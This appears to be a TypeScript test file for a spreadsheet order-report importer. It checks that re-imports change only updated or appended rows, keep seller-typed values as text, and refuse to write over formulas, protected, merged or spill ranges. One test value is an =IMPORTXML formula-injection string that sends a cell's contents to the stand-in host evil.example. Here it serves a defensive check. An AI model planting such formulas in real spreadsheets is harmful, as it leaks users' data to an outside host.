/**
 * Issue 11, "Nothing lost", the import's part: each "Reproduced" case of the issue, run on the
 * built bundle in the emulator (which parses typed strings, enforces protections, merges and the
 * platform limits as Sheets does; see tools/emulator/README.md).
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ImportFileInput, ImportResult } from '../../src/core/wire/types';
import { emulateBundle, type Emulator, type SheetSnapshot } from '../helpers/emulator';

const FIXTURES = join(__dirname, '..', 'fixtures', 'reports');
const fixture = (name: string): string => readFileSync(join(FIXTURES, name), 'utf8');
const file = (name: string, text = fixture(name)): ImportFileInput => ({ name, text });

/** Everything about a sheet's cells a writer could damage, keyed by A1. */
function cells(emulator: Emulator, sheet: string): Map<string, string> {
  const snap: SheetSnapshot = emulator.snapshot(sheet, 1, 400);
  const out = new Map<string, string>();
  for (let r = 0; r < snap.values.length; r++) {
    for (let c = 0; c < snap.maxColumns; c++) {
      const v = snap.values[r][c];
      const f = snap.formulas[r][c];
      const n = snap.numberFormats[r][c];
      if (v === '' && f === '' && n === '0.###############') continue;
      out.set(
        `${String.fromCharCode(65 + (c % 26))}${c >= 26 ? 'x' : ''}${r + 1}`,
        JSON.stringify([v, f, n]),
      );
    }
  }
  return out;
}

function changedCells(before: Map<string, string>, after: Map<string, string>): string[] {
  const keys = new Set([...before.keys(), ...after.keys()]);
  return [...keys].filter((k) => before.get(k) !== after.get(k)).sort();
}

function columnOf(emulator: Emulator, sheet: string, header: string): number {
  const snap = emulator.snapshot(sheet, 1, 1);
  const c = snap.values[0].indexOf(header);
  if (c < 0) throw new Error(`no column ${header} in ${sheet}`);
  return c + 1;
}

function rowWith(emulator: Emulator, sheet: string, id: string, type?: string): number {
  const snap = emulator.snapshot(sheet, 1, 400);
  const r = snap.values.findIndex(
    (row) => row[0] === id && (type === undefined || row[1] === type),
  );
  if (r < 0) throw new Error(`no row ${id} in ${sheet}`);
  return r + 1;
}

const ALL_ORDERS = fixture('all-orders.txt');
const HEADER = ALL_ORDERS.split('\n')[0].split('\t');
const col = (name: string): number => HEADER.indexOf(name);

/** The All Orders fixture with one order's status changed and one new order appended. */
function laterAllOrders(): string {
  const lines = ALL_ORDERS.trimEnd().split('\n');
  const second = lines[2].split('\t');
  second[col('order-status')] = 'Cancelled';
  second[col('item-status')] = 'Cancelled';
  second[col('last-updated-date')] = '2024-01-20T08:00:00+00:00';
  lines[2] = second.join('\t');
  const fresh = lines[1].split('\t');
  fresh[col('amazon-order-id')] = '111-0000077-0000077';
  lines.push(fresh.join('\t'));
  return `${lines.join('\n')}\n`;
}

describe('import writes only what changed — and nothing else', () => {
  it('leaves a seller’s own row alone: 00123, 1/2/2024, TRUE, 12% and =IMPORTXML text stay text', () => {
    const { emulator, call } = emulateBundle();
    call('importReports', [file('all-orders.txt')]);
    const sheet = emulator.spreadsheet.getSheetByName('Orders');
    if (!sheet) throw new Error('no Orders');
    // The seller adds an order of their own below the imported ones, typed as text.
    const last = sheet.getLastRow() + 1;
    const typed: [string, string][] = [
      ['amazon-order-id', '111-0000099-0000099'],
      ['purchase-date', '2024-01-15'],
      ['sku', "'00123"],
      ['product-name', '\'=IMPORTXML("https://evil.example/x?"&A2,"//a")'],
      ['item-status', "'TRUE"],
      ['currency', "'12%"],
      ['sales-channel', "'1/2/2024"],
    ];
    for (const [header, value] of typed) {
      sheet.getRange(last, columnOf(emulator, 'Orders', header)).setValue(value);
    }
    const before = cells(emulator, 'Orders');

    const result = call<ImportResult>('importReports', [
      file('all-orders-later.txt', laterAllOrders()),
    ]);
    expect(result.files[0]).toMatchObject({ ok: true, added: 1, updated: 1 });

    const after = cells(emulator, 'Orders');
    const seller = [...before.keys()].filter((k) => k.endsWith(String(last)));
    expect(seller.filter((k) => before.get(k) !== after.get(k))).toEqual([]);
    const values = emulator.snapshot('Orders', last, 1).values[0];
    expect(values[columnOf(emulator, 'Orders', 'sku') - 1]).toBe('00123');
    expect(values[columnOf(emulator, 'Orders', 'item-status') - 1]).toBe('TRUE');
    expect(values[columnOf(emulator, 'Orders', 'currency') - 1]).toBe('12%');
    expect(values[columnOf(emulator, 'Orders', 'sales-channel') - 1]).toBe('1/2/2024');
    expect(
      emulator
        .snapshot('Orders')
        .formulas.flat()
        .filter((f) => f !== ''),
    ).toEqual([]);
  });

  it('changes only the cells of the updated row and the appended row', () => {
    const { emulator, call } = emulateBundle();
    call('importReports', [file('all-orders.txt')]);
    const before = cells(emulator, 'Orders');
    call('importReports', [file('all-orders-later.txt', laterAllOrders())]);
    const changed = changedCells(before, cells(emulator, 'Orders'));
    const rows = new Set(changed.map((k) => Number(/\d+$/.exec(k)?.[0])));
    const updated = rowWith(emulator, 'Orders', '111-0000002-0000002');
    const appended = rowWith(emulator, 'Orders', '111-0000077-0000077');
    expect([...rows].sort((a, b) => a - b)).toEqual([updated, appended].sort((a, b) => a - b));
  });

  it('stops before writing when a formula, a spill, a protected or a merged range is in the way, and names the cell', () => {
    const cases: [string, (e: Emulator) => void, RegExp][] = [
      [
        'formula',
        (e) => e.spreadsheet.getSheetByName('Defects')?.getRange('C3').setFormula('="Open"'),
        /Defects!C3/,
      ],
      ['protected', (e) => e.protect('Defects!C1:C10'), /Defects!C3/],
      [
        'merged',
        (e) => e.spreadsheet.getSheetByName('Defects')?.getRange('C3:D3').merge(),
        /Defects!C3/,
      ],
      [
        'spill',
        (e) => {
          const sheet = e.spreadsheet.getSheetByName('Defects');
          sheet?.getRange('C2:C4').clearContent();
          sheet?.getRange('C2').setFormula('=ARRAYFORMULA(B2:B4)');
        },
        /Defects!C[23]/,
      ],
    ];
    for (const [label, obstruct, where] of cases) {
      const { emulator, call } = emulateBundle();
      call('importReports', [file('claims.txt')]);
      obstruct(emulator);
      const orders = emulator.spreadsheet.getSheetByName('Orders');
      const before = cells(emulator, 'Defects');
      const result = call<ImportResult>('importReports', [
        file('all-orders.txt'),
        file('claims-later.txt'),
      ]);
      expect([label, result.sheetsWritten]).toEqual([label, []]);
      expect([label, result.message]).toEqual([label, expect.stringMatching(where)]);
      expect([label, changedCells(before, cells(emulator, 'Defects'))]).toEqual([label, []]);
      // Orders, which nothing blocked, was not written either: all or nothing.
      expect([label, emulator.spreadsheet.getSheetByName('Orders')]).toEqual([label, orders]);
    }
  });
});
